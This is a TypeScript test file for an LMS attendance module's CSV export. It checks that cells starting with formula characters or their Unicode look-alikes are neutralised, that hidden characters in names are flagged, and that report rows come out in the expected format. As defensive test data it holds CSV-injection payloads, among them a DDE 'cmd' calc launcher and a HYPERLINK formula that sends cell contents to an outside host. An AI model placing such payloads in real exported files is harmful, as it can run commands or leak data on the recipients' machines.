import fc from 'fast-check'
import {
  attendance,
  attendanceCsv,
  classReport,
  courseCsv,
  courseReport,
  csv,
  visibleText,
} from 'lms-conferencing/attendance'
import { describe, expect, it } from 'vitest'
import { story, T0 } from './support.ts'

const hour = { scheduledStart: T0, plannedMs: 3_600_000, startedAt: null, endedAt: null }

/** A reader of RFC 4180 and nothing more: quotes only around whole cells, doubled inside. */
function parse(text: string, delimiter = ','): string[][] {
  const rows: string[][] = [[]]
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const character = text[i] ?? ''
    if (quoted) {
      if (character !== '"') cell += character
      else if (text[i + 1] === '"') cell += text[++i]
      else quoted = false
    } else if (character === '"' && cell === '') quoted = true
    else if (character === delimiter) {
      rows.at(-1)?.push(cell)
      cell = ''
    } else if (character === '\r' && text[i + 1] === '\n') {
      rows.at(-1)?.push(cell)
      cell = ''
      rows.push([])
      i++
    } else if (character === '\n' || character === '\r') throw new Error('a line break outside quotes')
    else cell += character
  }
  expect(quoted).toBe(false)
  expect(rows.pop()).toEqual([])
  return rows
}

/** Whether a spreadsheet might run a cell: the first character it can see, folded to ASCII, starts a formula. */
function runs(cell: string): boolean {
  return /^[=+\-@−]/.test(cell.normalize('NFKC').replace(/^[\s\p{C}\p{Default_Ignorable_Code_Point}\u2800]+/u, ''))
}

/** One text, there and back. */
function roundTrip(text: string, hidden: 'show' | 'strip' = 'show'): string {
  const [row] = parse(csv([['before', text, 'after']], { bom: false, hidden }))
  expect(row).toHaveLength(3)
  return row?.[1] ?? ''
}

/** Takes away what was put before formulas. */
const restored = (cell: string) =>
  cell.replace(
    /(^|[,;|])'(?=['"\p{White_Space}\p{C}\p{Default_Ignorable_Code_Point}]*[=+\-@−＝＋－＠﹦﹢﹣﹫⁺⁻⁼₊₋₌])/gu,
    '$1',
  )

const starters = ['=', '+', '-', '@', '−', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '⁺', '⁻', '⁼', '₊', '₋', '₌']
const leads = ['', ' ', '\t', '\r', '\n', '\r\n', '\u00A0', '\u3000', '\u200B', '\uFEFF', '\u0000', '\u2028', "'"]
const bodies = ["cmd|'/C calc'!A0", 'HYPERLINK("http://example.test?"&A1,"x")', '1+1', 'SUM(1;2)', 'A1,"=B1"']

describe('T50 cells that a spreadsheet could run are neutralised', () => {
  const payloads = starters.flatMap(starter =>
    leads.map((lead, index) => `${lead}${starter}${bodies[index % bodies.length]}`),
  )

  it(`${payloads.length} payloads: every starter, ASCII or wide, behind every white space and control`, () => {
    expect(payloads.filter(payload => runs(payload) || payload.startsWith("'"))).toHaveLength(payloads.length)
    for (const payload of payloads) {
      for (const hidden of ['show', 'strip'] as const) {
        const cell = roundTrip(payload, hidden)
        expect(runs(cell), JSON.stringify(payload)).toBe(false)
        expect(restored(cell)).toBe(visibleText(payload, hidden).text)
      }
    }
  })

  it.each([',', ';', '\t', '|'])(
    'also for a reader that separates by %j, whatever the file was written with',
    other => {
      for (const payload of payloads) {
        for (const delimiter of [',', ';', '\t'] as const) {
          const text = `Ana${other}${payload}`
          const file = csv([[text, 'x']], { delimiter, bom: false })
          // A reader with another separator sees no quotes that mean anything to it, but these.
          const cells = file.trimEnd().split(other)
          for (const cell of cells) expect(runs(cell.replace(/^"+/, '')), JSON.stringify([text, cell])).toBe(false)
        }
      }
    },
  )

  it.each(['\u{3347A}\uFE62', '\uE000=1', '\u{10FFFD}@x'])(
    '%j: a code point of no character hides no formula',
    text => {
      expect(runs(roundTrip(text))).toBe(false)
    },
  )

  it('a reader gets back the visible text of anything (property)', () => {
    const any = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc
        .array(fc.constantFrom(...starters, ...leads, ',', ';', '"', 'a', '1', '|', '\u202E', '\uD800'), {
          maxLength: 8,
        })
        .map(parts => parts.join('')),
    )
    fc.assert(
      fc.property(any, fc.constantFrom('show' as const, 'strip' as const), (text, hidden) => {
        const cell = roundTrip(text, hidden)
        expect(runs(cell)).toBe(false)
        expect(restored(cell)).toBe(visibleText(text, hidden).text)
      }),
      { numRuns: 2000 },
    )
  })

  it('leaves ordinary names and texts as they are', () => {
    for (const name of [
      "Seán O'Brien",
      "'s Gravenhage",
      'Jean-Luc',
      'a@example.test',
      'C++ for all',
      '田中 太郎',
      'x = 1',
    ]) {
      expect(roundTrip(name)).toBe(name)
    }
  })

  it('numbers, empty cells and truth values are written bare, with the decimal sign of the reader', () => {
    expect(csv([[83.3, 0, null, true]], { bom: false })).toBe('83.3,0,,true\r\n')
    expect(csv([[83.3, 0, null, false]], { bom: false, delimiter: ';' })).toBe('83,3;0;;false\r\n')
    expect(csv([[83.3]], { bom: false, delimiter: '\t', decimal: ',' })).toBe('83,3\r\n')
  })

  it('quotes by RFC 4180 and says that it is UTF-8', () => {
    expect(csv([['a"b', 'c,d', 'e']])).toBe('\uFEFF"a""b","c,d",e\r\n')
  })
})

describe('T51 look-alike names', () => {
  it.each([
    ['right-to-left override', 'Ana\u202Egnp', 'Ana[U+202E]gnp', 'Anagnp'],
    ['isolate', '\u2066Ana\u2069', '[U+2066]Ana[U+2069]', 'Ana'],
    ['left-to-right mark', 'Ana\u200E', 'Ana[U+200E]', 'Ana'],
    ['Arabic letter mark', 'Ana\u061C', 'Ana[U+061C]', 'Ana'],
    ['zero-width space', 'A\u200Bna', 'A[U+200B]na', 'Ana'],
    ['zero-width joiner between Latin letters', 'A\u200Dna', 'A[U+200D]na', 'Ana'],
    ['zero-width non-joiner between Latin letters', 'A\u200Cna', 'A[U+200C]na', 'Ana'],
    ['word joiner', 'A\u2060na', 'A[U+2060]na', 'Ana'],
    ['byte order mark', '\uFEFFAna', '[U+FEFF]Ana', 'Ana'],
    ['soft hyphen', 'A\u00ADna', 'A[U+00AD]na', 'Ana'],
    ['Hangul filler', 'Ana\u3164', 'Ana[U+3164]', 'Ana'],
    ['blank Braille', 'Ana\u2800', 'Ana[U+2800]', 'Ana'],
    ['tag characters', 'Ana\u{E0041}', 'Ana[U+E0041]', 'Ana'],
    ['variation selector on a letter', 'A\uFE0Fna', 'A[U+FE0F]na', 'Ana'],
    ['line break', 'Ana\nBen', 'Ana[U+000A]Ben', 'AnaBen'],
    ['line separator', 'Ana\u2028Ben', 'Ana[U+2028]Ben', 'AnaBen'],
    ['escape', 'Ana\u001B[31m', 'Ana[U+001B][31m', 'Ana[31m'],
    ['lone surrogate', 'Ana\uD83D', 'Ana[U+D83D]', 'Ana'],
  ])('%s is shown or stripped, and flagged', (_, name, shown, stripped) => {
    expect(visibleText(name)).toEqual({ text: shown, flagged: true })
    expect(visibleText(name, 'strip')).toEqual({ text: stripped, flagged: true })
  })

  it.each(['علی‌رضا', 'क्‍ष', '👩‍🏫', '❤️', '👩🏽‍💻', 'Zoë', 'Nguyễn', '山田', '', 'مريم'])(
    '%s is spelt like that',
    name => {
      expect(visibleText(name)).toEqual({ text: name, flagged: false })
    },
  )

  it('in the report and its file the name shows itself and carries a flag; the key stays as it was', () => {
    const events = story('started 0:00; ana/a joined 0:00; ana/a left 60:00; ended 60:00')
    const roster = [
      { person: 'ana', name: 'Ana\u202E' },
      { person: 'ben', name: 'Ben' },
    ]
    const result = attendance({ class: hour, roster: ['ana', 'ben'], events })
    const { rows } = classReport(result, roster)
    expect(rows.map(({ name, nameFlagged }) => ({ name, nameFlagged }))).toEqual([
      { name: 'Ana[U+202E]', nameFlagged: true },
      { name: 'Ben', nameFlagged: false },
    ])
    const [header = [], ana = [], ben = []] = parse(attendanceCsv(rows, { bom: false }))
    expect(ana[header.indexOf('name_flag')]).toBe('hidden characters')
    expect(ben[header.indexOf('name_flag')]).toBe('')
  })
})

describe('the files', () => {
  const roster = [
    { person: 'ana', name: 'Ana Ruiz' },
    { person: 'ben', name: '=Ben' },
    { person: '__proto__', name: 'Proto' },
  ]
  const keys = roster.map(({ person }) => person)
  const first = attendance({
    class: hour,
    roster: keys,
    events: story(
      'started 0:00; ana/a joined 0:00; ana/a left 60:00; ben/b joined 20:00; gus/g joined 0:00; ended 60:00',
    ),
  })
  const second = attendance({ class: hour, roster: ['ana'], events: story('started 0:00; ended 60:00') })

  it('a class: one line per person, figures in the open', () => {
    const { rows } = classReport(first, roster, new Map([['ana', ['webhook', 'report']]]))
    expect(attendanceCsv(rows)).toBe(
      [
        '\uFEFFuser_id,name,on_roster,status,percentage,minutes,first_join,last_leave,late,late_by_minutes,left_early,' +
          'left_early_by_minutes,reconnects,gaps,credited_ms,observed_ms,bridged_ms,imputed_ms,held_ms,confidence,' +
          'anomalies,participation_score,participation_basis,sources,name_flag,contradiction,lost_callbacks',
        'ana,Ana Ruiz,true,present,100,60,2026-09-01T08:00:00.000Z,2026-09-01T09:00:00.000Z,false,0,false,0,0,0,' +
          '3600000,3600000,0,0,3600000,exact,,100,attendance,report webhook,,,',
        'ben,"\'=Ben",true,partial,66.7,40,2026-09-01T08:20:00.000Z,2026-09-01T09:00:00.000Z,true,20,false,0,0,0,' +
          '2400000,2400000,0,2400000,3600000,imputed,unclosed,67,attendance,,,,',
        '__proto__,Proto,true,absent,0,0,,,false,,false,,0,0,0,0,0,0,3600000,exact,,0,attendance,,,,',
        'gus,,false,,100,60,2026-09-01T08:00:00.000Z,2026-09-01T09:00:00.000Z,false,0,false,0,0,0,' +
          '3600000,3600000,0,3600000,3600000,imputed,unclosed,,,,,,',
        '',
      ].join('\r\n'),
    )
  })

  it('times are written as the school writes them', () => {
    const { rows } = classReport(first, roster)
    const file = attendanceCsv(rows, { formatTime: at => `+${(at - T0) / 60_000}`, delimiter: ';' })
    expect(file).toContain(`;60;"'+0";"'+60";`)
    expect(file).toContain('66,7')
  })

  it('a course: a column per class, under a title that is only text', () => {
    const report = courseReport(
      [
        { classId: 'c1', title: '@Algebra', result: first },
        { classId: 'c2', title: 'Limits, part 1', result: second },
      ],
      roster,
    )
    expect(courseCsv(report, { bom: false })).toBe(
      [
        'user_id,name,"\'@Algebra","Limits, part 1",classes,present,late,left_early,partial,absent,' +
          'percentage,minutes,participation_score,to_review,name_flag',
        'ana,Ana Ruiz,present,absent,2,1,0,0,0,1,50,60,50,0,',
        'ben,"\'=Ben",partial,,1,0,0,0,1,0,66.7,40,67,1,',
        '__proto__,Proto,absent,,1,0,0,0,0,1,0,0,0,0,',
        'gus,,,,0,0,0,0,0,0,,0,,0,',
        '',
      ].join('\r\n'),
    )
  })
})
